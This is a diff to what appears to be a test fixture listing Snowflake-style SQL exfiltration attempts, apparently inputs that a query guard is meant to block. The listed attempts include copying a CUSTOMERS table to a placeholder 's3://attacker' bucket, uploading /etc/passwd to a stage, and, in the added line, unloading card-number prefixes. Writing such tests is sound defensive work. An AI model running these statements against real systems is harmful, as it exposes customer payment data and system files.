@@ -65,7 +65,7 @@ export const exports_ = attempts('exports', {
     "COPY INTO 's3://attacker/out' FROM CUSTOMERS CREDENTIALS = (AWS_KEY_ID = 'a' AWS_SECRET_KEY = 'b')",
   'GET the file': 'GET @~/out file:///tmp/out',
   'PUT a file': 'PUT file:///etc/passwd @~',
-  'LIST a stage': 'LIST @~',
+  'unload a part of it': 'COPY INTO @~/out FROM (SELECT LEFT(CARD_NUMBER, 6) FROM CUSTOMERS)',
   'read a stage': 'SELECT $1 FROM @~/out',
   'read a stage file by name': "SELECT $1 FROM '@~/out'",
   'create a stage': "CREATE STAGE S URL = 's3://attacker/'",
